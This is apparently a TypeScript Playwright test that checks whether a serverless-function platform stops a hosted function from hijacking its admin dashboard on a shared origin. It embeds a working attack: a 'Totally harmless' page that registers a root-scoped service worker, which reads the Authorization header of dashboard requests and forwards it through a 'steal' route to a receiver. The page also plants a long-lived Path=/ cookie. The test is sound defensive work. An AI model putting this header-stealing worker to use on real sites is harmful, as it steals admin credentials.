/**
 * A function cannot act on the dashboard's origin, in a real headless
 * Chromium against a real server with an admin key and one listener (the
 * default, where functions and the dashboard share an origin). The attack
 * this guards against: a function's page registers a service worker with
 * scope `/` (its script answering `Service-Worker-Allowed: /`); the worker
 * takes control of an open dashboard tab and sends the next API call's
 * `Authorization` header to the function, which hands it on (here, to a
 * local receiver). A cookie the page sets with `Path=/` would likewise ride
 * on every dashboard request. Loopback is a secure context, so service
 * workers work on http://127.0.0.1.
 */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { browserSuite, inPage, launchBrowser, type Browser } from '../helpers/browser.js';
import { startReceiver, type Receiver } from '../helpers/receiver.js';
import { startService, type RunningService } from '../helpers/service.js';
import { until } from '../helpers/until.js';

const KEY = 'origins-test-key';

/** The attacker's function: a page, its worker, and a route that hands what the worker took to `receiver`. */
function thief(receiver: string): string {
  const page = `<!doctype html><title>Totally harmless</title><script>
window.outcome = navigator.serviceWorker.register('sw.js', { scope: '/' })
  .then(() => navigator.serviceWorker.ready)
  .then(() => 'registered', (e) => 'refused: ' + e.message);
</script>`;
  const worker = `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  const auth = e.request.headers.get('authorization');
  if (!auth) return;
  e.respondWith(fetch(new URL('steal', self.location), { method: 'POST', body: auth }).then(() => fetch(e.request)));
});`;
  return `export async function handler(event) {
  if (event.path === '/page') {
    return { statusCode: 200, headers: { 'content-type': 'text/html; charset=utf-8', 'set-cookie': 'planted=1; Path=/; Max-Age=31536000' }, body: ${JSON.stringify(page)} };
  }
  if (event.path === '/sw.js') {
    return { statusCode: 200, headers: { 'content-type': 'text/javascript', 'service-worker-allowed': '/' }, body: ${JSON.stringify(worker)} };
  }
  if (event.path === '/steal') {
    await fetch(${JSON.stringify(receiver)} + '/stolen', { method: 'POST', body: typeof event.body === 'string' ? event.body : JSON.stringify(event.body) });
    return { statusCode: 204 };
  }
  return { statusCode: 404, body: 'nothing here' };
}`;
}

const suite = browserSuite('test/browser/origins.test.ts');

suite('a function against the dashboard on its origin, in Chromium', () => {
  let svc: RunningService;
  let receiver: Receiver;
  let browser: Browser;
  let dashboard: Page;
  let invokeUrl: string;
  const admin = { authorization: `Bearer ${KEY}` };

  beforeAll(async () => {
    receiver = await startReceiver();
    svc = await startService({ env: { SWITCHYARD_ADMIN_KEY: KEY, SWITCHYARD_ALLOW_PRIVATE_TARGETS: '1' } });
    const fn = await svc.request('POST', '/api/functions', { name: 'thief', code: thief(receiver.url) }, admin);
    expect(fn.status, fn.text).toBe(201);
    const api = await svc.request(
      'POST',
      '/api/apis',
      { name: 'Thief', basePath: '/', routes: [{ method: 'ANY', path: '/*', function: 'thief' }] },
      admin,
    );
    expect(api.status, api.text).toBe(201);
    invokeUrl = api.json.invokeUrl;
    browser = await launchBrowser();
    dashboard = browser.page;
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    await svc?.stop();
    await receiver?.close();
  });

  it('never lets a function page register a service worker that reads the admin key', async () => {
    await dashboard.goto(`${svc.url}/#/functions`);
    await dashboard.getByRole('textbox', { name: 'Admin key' }).fill(KEY);
    await dashboard.getByRole('button', { name: 'Use this key' }).click();
    await dashboard.getByRole('link', { name: 'thief' }).waitFor();

    // The function's page, in another tab of the same browser.
    const attacker = await browser.context.newPage();
    await attacker.goto(`${invokeUrl}/page`);
    const outcome = await inPage<string>(attacker, 'window.outcome');
    if (outcome === 'registered') {
      // What the attack needs next: the worker in control of the dashboard's tab.
      await until(() => inPage<boolean>(dashboard, 'navigator.serviceWorker.controller !== null'), 'the worker to claim the dashboard');
    }

    // The dashboard's next API calls, with the key.
    await dashboard.getByRole('link', { name: 'APIs' }).click();
    await dashboard.getByText('Thief').first().waitFor();
    const stolen = receiver.requests.filter((r) => r.body.includes(KEY));
    expect(stolen, 'requests that carried the admin key to the function').toEqual([]);
    expect(outcome).toMatch(/^refused: .*403/);
    expect(await inPage(dashboard, 'navigator.serviceWorker.controller')).toBeNull();
    // The script fetch itself was answered 403 service_worker_refused.
    const direct = await fetch(`${invokeUrl}/sw.js`, { headers: { 'service-worker': 'script' } });
    expect(direct.status).toBe(403);
    expect(((await direct.json()) as { code: string }).code).toBe('service_worker_refused');
    await attacker.close();
  }, 60_000);

  it("keeps a function's cookie off the dashboard's paths", async () => {
    const attacker = await browser.context.newPage();
    await attacker.goto(`${invokeUrl}/page`);
    // The function's own paths still get its cookie...
    expect(await inPage(attacker, 'document.cookie')).toBe('planted=1');
    await attacker.close();
    // ...the dashboard (and every management call it makes) does not.
    await dashboard.reload();
    await dashboard.getByText('Thief').first().waitFor();
    expect(await inPage(dashboard, 'document.cookie')).toBe('');
    const cookies = await browser.context.cookies(svc.url + '/api/functions');
    expect(cookies.map((c) => c.name)).not.toContain('planted');
  }, 60_000);
});
